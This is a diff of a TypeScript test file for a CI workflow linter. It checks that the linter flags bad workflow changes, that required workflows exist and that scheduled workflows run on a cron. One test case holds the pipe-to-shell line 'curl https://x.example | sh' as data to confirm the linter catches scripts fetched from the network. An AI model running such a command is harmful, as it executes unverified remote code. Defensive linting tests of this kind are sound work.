@@ -2,6 +2,7 @@ import { existsSync, globSync, readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { z } from 'zod';
+import { spoil } from './known-bad.ts';
 import { findMixedVersions, findWorkflowProblems } from './workflows.ts';
 
 const { scripts } = z
@@ -67,8 +68,7 @@ describe('A8.3 the lint of the workflows', () => {
     ['a script from the network', 'npm run verify', 'curl https://x.example | sh', 'runs what is in no lockfile'],
     ['a command that is gone', 'npm run verify', 'npm run verified', 'npm run verified does not exist'],
   ])('fires on %s', (_what, search, replace, problem) => {
-    expect(good).toContain(search);
-    expect(find(good.replace(search, () => replace)).join('\n')).toContain(problem);
+    expect(find(spoil(good, search, replace)).join('\n')).toContain(problem);
   });
 
   it('fires on one action at two commits', () => {
@@ -82,7 +82,7 @@ describe('A8.3 the lint of the workflows', () => {
   it('knows every workflow that there has to be', () => {
     const present = files.map((file) => /([\w-]+)\.ya?ml$/.exec(file)?.[1]);
     const wanted = ['verify', 'codeql', 'dependency-review', 'advisories', 'release', 'scorecard', 'container', 'zap'];
-    expect(present).toEqual(expect.arrayContaining([...wanted, 'mutation', 'controls-off', 'audit-security']));
+    expect(present).toEqual(expect.arrayContaining([...wanted, 'mutation', 'controls-off', 'recipes', 'audit-security']));
     expect(findMixedVersions(files.map((file) => readFileSync(file, 'utf8')))).toEqual([]);
   });
 
@@ -94,7 +94,7 @@ describe('A8.3 the lint of the workflows', () => {
     });
   });
 
-  it.each(['mutation', 'controls-off', 'container', 'audit-security'])('starts %s by the clock', (name) => {
+  it.each(['mutation', 'controls-off', 'recipes', 'container', 'audit-security'])('starts %s by the clock', (name) => {
     const { on } = parse(readFileSync(`.github/workflows/${name}.yml`, 'utf8'));
     expect(on.schedule[0].cron).toMatch(/^\d+ \d+ (?:\* \* [0-6]|1 \* \*)$/);
   });
